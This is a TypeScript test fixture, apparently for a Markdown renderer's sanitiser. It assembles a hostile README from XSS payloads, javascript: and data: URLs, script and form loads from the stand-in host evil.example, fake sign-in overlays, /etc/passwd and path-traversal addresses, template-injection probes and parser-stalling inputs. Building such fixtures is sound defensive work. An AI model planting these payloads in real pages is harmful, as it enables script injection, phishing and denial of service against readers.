/** What a README holds that wants to run, to load, to lead astray or to look like the console. Each is one paragraph. */

const RUN = "window.pwned='run'"
/** Where everything leads that should lead nowhere. Nobody has this name. */
export const EVIL = 'evil.example'

/** HTML in Markdown. */
const HTML = [
  `<script>${RUN}</script>`,
  `<script src="https://${EVIL}/x.js"></script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://${EVIL}/pixel.gif" width="1" height="1">`,
  `<img srcset="https://${EVIL}/pixel.gif 1x">`,
  `<picture><source srcset="https://${EVIL}/pixel.webp"><img></picture>`,
  `<svg onload="${RUN}"><script>${RUN}</script><a href="javascript:${RUN}"><text>a</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="https://${EVIL}/"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="https://${EVIL}/x.swf">`,
  `<form action="https://${EVIL}/"><input name="password" type="password" autofocus onfocus="${RUN}"><button>Sign in</button></form>`,
  `<input type="image" src="https://${EVIL}/i.png" formaction="javascript:${RUN}">`,
  `<textarea autofocus onfocus="${RUN}"></textarea><select autofocus onfocus="${RUN}"></select>`,
  `<details open ontoggle="${RUN}"><summary>a</summary></details>`,
  `<video src="https://${EVIL}/v.mp4" onerror="${RUN}" autoplay></video><audio src="https://${EVIL}/a.mp3"></audio>`,
  `<video poster="https://${EVIL}/poster.png"></video><track src="https://${EVIL}/t.vtt">`,
  `<style>* { display: none } body { background: url(https://${EVIL}/style.png) } @import "https://${EVIL}/style.css"; </style>`,
  `<link rel="stylesheet" href="https://${EVIL}/link.css"><link rel="prefetch" href="https://${EVIL}/prefetch">`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`,
  `<base href="https://${EVIL}/" target="_top">`,
  `<div style="position:fixed;inset:0;z-index:99999;background:url(https://${EVIL}/cover.png)">Your session is over. Sign in again.</div>`,
  `<a href="https://${EVIL}/" style="position:fixed;inset:0" target="_top">covers the page</a>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template><div is="x" onclick="${RUN}">a</div>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><?php echo "${RUN}" ?>`,
  `<a id="session" name="session">a</a><img name="body"><form id="document"><input name="cookie"></form>`,
  `<button popovertarget="x" onclick="${RUN}">a</button><dialog open id="x" popover>Sign in again</dialog>`,
  `<marquee onstart="${RUN}">a</marquee><body onload="${RUN}"><frameset onload="${RUN}">`,
  `<p onmouseover="${RUN}" tabindex="0" accesskey="x" contenteditable onfocus="${RUN}" autofocus>a</p>`,
  `<div class="fixed inset-0 z-50" role="dialog" aria-modal="true" data-testid="x">A class of ours</div>`,
]

/** Addresses that run, hide or lead astray. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript:${RUN}`,
  `javascript://${EVIL}/%0a${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `blob:https://${EVIL}/x`,
  `filesystem:https://${EVIL}/x`,
  `file:///etc/passwd`,
  `//${EVIL}/x`,
  `\\\\${EVIL}\\x`,
  `/\\${EVIL}/x`,
  `https:${EVIL}`,
  `ms-settings:privacy`,
  `/v1/auth/logout`,
  `/api/auth/signout`,
  `../../../admin/settings/api-keys`,
  `?tab=values`,
  `#session`,
  `%2e%2e/%2e%2e/etc/passwd`,
]

/** Sound Markdown that leads elsewhere, which it may: as a link that says where. */
const LINKS = [
  `[the console](https://${EVIL}/login)`,
  `[https://good.example](https://${EVIL}/)`,
  `https://good.example@${EVIL}/`,
  `<https://${EVIL}/auto>`,
  `www.${EVIL}`,
  `somebody@${EVIL}`,
  `[a](https://${EVIL}/ "a title\\" onmouseover=\\"${RUN}")`,
  `[a][1]\n\n[1]: https://${EVIL}/reference`,
  `![alt \\" onerror=\\"${RUN}](https://${EVIL}/image.png)`,
  `![a](https://${EVIL}/image.svg "title")`,
  `[![badge](https://${EVIL}/badge.svg)](javascript:${RUN})`,
  `A note[^1].\n\n[^1]: <img src=x onerror=${RUN}> [a](javascript:${RUN})`,
]

/** What is no attack on anybody but the eye. */
const LOOKS = [
  '\u202eevil gnp.exe\u202c, \u2066hidden\u2069, \u200bzero\u200bwidth',
  `z${'\u0301'.repeat(500)}`,
  `${'Wide'.repeat(2_000)}`,
  '# '.repeat(200),
  `- [x] <input type="checkbox" onclick="${RUN}"> done`,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"]-->B; click A "javascript:${RUN}"\n\`\`\``,
  `\`\`\`js"><script>${RUN}</script>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `~~~__proto__\n{{constructor.constructor("${RUN}")()}}\n~~~`,
  `| <script>${RUN}</script> | [a](javascript:${RUN}) |\n| --- | --- |\n| <img src=x onerror=${RUN}> | ${'x'.repeat(3_000)} |`,
  '{{ 7 * 7 }} ${7*7} <%= 7*7 %>',
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62;${RUN}&#60;/script&#62;`,
]

export const README = [
  '# A README that means harm',
  ...HTML,
  ...ADDRESSES.flatMap((address, i) => [
    `[link ${i}](${address})`,
    `[link ${i}](<${address}>)`,
    `![image ${i}](<${address}>)`,
    `[link ${i}][ref-${i}]\n\n[ref-${i}]: <${address}>`,
    // `<?` begins what ends with the text alone.
    ...(address.startsWith('?') ? [] : [`<${address.trim()}>`]),
  ]),
  ...LINKS,
  ...LOOKS,
  '## The end of the README',
].join('\n\n')

/** What keeps whoever reads Markdown busy. */
export const SLOW_READMES: Record<string, string> = {
  'ten thousand quotes': '>'.repeat(10_000),
  'five thousand levels of lists': Array.from({ length: 5_000 }, (_, i) => `${' '.repeat(i * 2)}- a`)
    .join('\n')
    .slice(0, 200_000),
  'brackets without end': '['.repeat(50_000),
  'brackets and images': '!['.repeat(25_000),
  'stars without end': `${'*'.repeat(50_000)}a${'_'.repeat(50_000)}`,
  'stars and letters': '*a_'.repeat(20_000),
  'backticks that grow': Array.from({ length: 500 }, (_, i) => '`'.repeat(i)).join('a'),
  'a table of ten thousand columns': `${'|a'.repeat(10_000)}|\n${'|-'.repeat(10_000)}|\n${'|b'.repeat(10_000)}|`,
  'entities without end': '&amp'.repeat(20_000),
  'links in links': `${'[a]('.repeat(10_000)}${')'.repeat(10_000)}`,
  'ten thousand references': Array.from(
    { length: 10_000 },
    (_, i) => `[r${i}]: https://good.example/${i}`,
  ).join('\n'),
  'ten thousand addresses': 'https://good.example/ '.repeat(10_000),
  'angles without end': '<a '.repeat(20_000),
  'comments that never end': '<!--'.repeat(20_000),
  'headings underlined': `${'a\n'.repeat(20_000)}===`,
}

/** Texts for every field that is shown in a line. */
export const EVIL_LINE = `"><img src=x onerror=${RUN}><script>${RUN}</script>\u202e{{7*7}}`
